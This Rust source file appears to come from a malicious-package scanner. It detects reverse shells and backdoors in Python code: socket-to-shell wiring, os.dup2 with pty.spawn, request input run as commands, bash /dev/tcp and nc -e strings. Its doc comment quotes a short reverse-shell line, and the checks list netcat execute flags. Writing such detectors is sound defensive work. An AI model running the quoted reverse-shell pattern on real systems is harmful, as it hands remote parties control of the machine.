//! Reverse shell / backdoor shape.
//!
//! **Detects** (`reverse-shell`, critical): a socket connection wired to a shell —
//! `os.dup2` of the socket onto stdin/stdout with a shell or `pty.spawn`, a subprocess
//! whose stdin/stdout is a socket, data received from a socket run as a command or
//! code, input of a web request handler (flask `request.args`, django `request.GET` …)
//! run as a command or code, or shell strings that redirect a shell's streams onto a
//! bash `/dev/tcp` socket or use `nc -e`. A `/dev/tcp` reachability probe
//! (`exec 3<>/dev/tcp/$ip/$port`, nothing redirected) is not a shell.
//!
//! **Why risky:** gives a remote party interactive control of the machine.
//!
//! **Example:** `s.connect((H, P)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")`.
//!
//! **Remedy:** do not install; report the package.

use crate::analysis::python::{evidence::{at, clip}, labels::Labels, model::Model, names, shellcmd};
use crate::alerts::AlertId;
use crate::finding::Finding;

pub(super) fn check(m: &Model, out: &mut Vec<Finding>) {
    for c in &m.calls {
        let where_ = m.scope(c.scope).describe();
        let runs = names::shell_call(&c.q).is_some() || names::exec_call(&c.q);
        let through = c.via.as_deref().map(|f| format!(" (through `{f}()`)")).unwrap_or_default();
        if runs && c.labels().has(Labels::SOCK) {
            out.push(at(m, AlertId::ReverseShell, c.scope, c.line, format!("{}(){through} runs data received on a socket {where_}", c.q)));
            continue;
        }
        // a web handler that runs what the request says: a remote-command backdoor
        if runs && c.labels().has(Labels::REMOTE) {
            out.push(at(m, AlertId::ReverseShell, c.scope, c.line, format!("{}(){through} runs input of a web request (remote commands) {where_}", c.q)));
            continue;
        }
        if names::shell_call(&c.q).is_some() {
            let sock_io = ["stdin", "stdout", "stderr"].iter().any(|k| c.kw(k).and_then(|v| v.qname.as_deref()).map(|q| q.contains("socket") && q.contains("fileno")).unwrap_or(false));
            if sock_io {
                out.push(at(m, AlertId::ReverseShell, c.scope, c.line, format!("{}() with a socket as stdin/stdout {where_}", c.q)));
                continue;
            }
            if let Some(cmd) = c.command_text() {
                let l = cmd.to_ascii_lowercase();
                if shellcmd::shell_on_socket(&l) || l.contains("nc -e") || l.contains("ncat -e") || l.contains("nc.exe -e") {
                    out.push(at(m, AlertId::ReverseShell, c.scope, c.line, format!("{}() runs `{}` {where_}", c.q, clip(&cmd))));
                    continue;
                }
            }
        }
    }
    // socket + dup2 + shell in one entry point
    let has_dup2 = m.calls.iter().any(|c| c.q == "os.dup2");
    for (i, s) in m.scopes.iter().enumerate() {
        if !has_dup2 {
            break;
        }
        // module level too: `reverse_shell()` called at the bottom of the file
        let scopes = m.reachable(i);
        let in_scopes = |q: &dyn Fn(&str) -> bool| m.calls.iter().find(|c| scopes.contains(&c.scope) && q(&c.q));
        let connect = in_scopes(&|q| q.starts_with("socket.") && (q.ends_with("connect") || q.ends_with("create_connection")));
        let dup2 = in_scopes(&|q| q == "os.dup2");
        let shell = in_scopes(&|q| names::shell_call(q).is_some() || q == "pty.spawn");
        if let (Some(_), Some(d), Some(sh)) = (connect, dup2, shell) {
            if i != 0 && m.is_called(i) {
                continue;
            }
            out.push(at(m, AlertId::ReverseShell, sh.scope, sh.line, format!("socket connection duplicated onto stdio (os.dup2, line {}) and handed to {}() {}", d.line, sh.q, s.describe())));
        }
    }
    for l in &m.literals {
        let v = l.value.to_ascii_lowercase();
        if shellcmd::shell_on_socket(&v) {
            out.push(at(m, AlertId::ReverseShell, l.scope, l.line, format!("bash /dev/tcp reverse-shell string {}", m.scope(l.scope).describe())));
        }
    }
}
